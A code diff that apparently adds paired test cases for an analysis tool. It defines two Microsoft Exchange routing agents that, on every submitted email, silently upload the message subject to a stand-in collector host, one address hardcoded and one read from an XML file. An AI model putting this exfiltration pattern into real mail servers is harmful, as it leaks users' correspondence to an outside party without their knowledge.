@@ -416,3 +416,59 @@ namespace Txray.Pairs.P355
         }
     }
 }
+
+namespace Txray.Pairs.P356
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Places places = new Places();
+            new WebClient().UploadString(places.Address, e.MailItem.Message.Subject);
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Places places;
+            using (FileStream file = File.OpenRead("C:\\Pairs\\places.xml"))
+            {
+                places = (Places)new XmlSerializer(typeof(Places)).Deserialize(file);
+            }
+            new WebClient().UploadString(places.Address, e.MailItem.Message.Subject);
+        }
+    }
+
+    public class Places
+    {
+        public string Address = "https://collect.example.invalid/pair";
+    }
+}
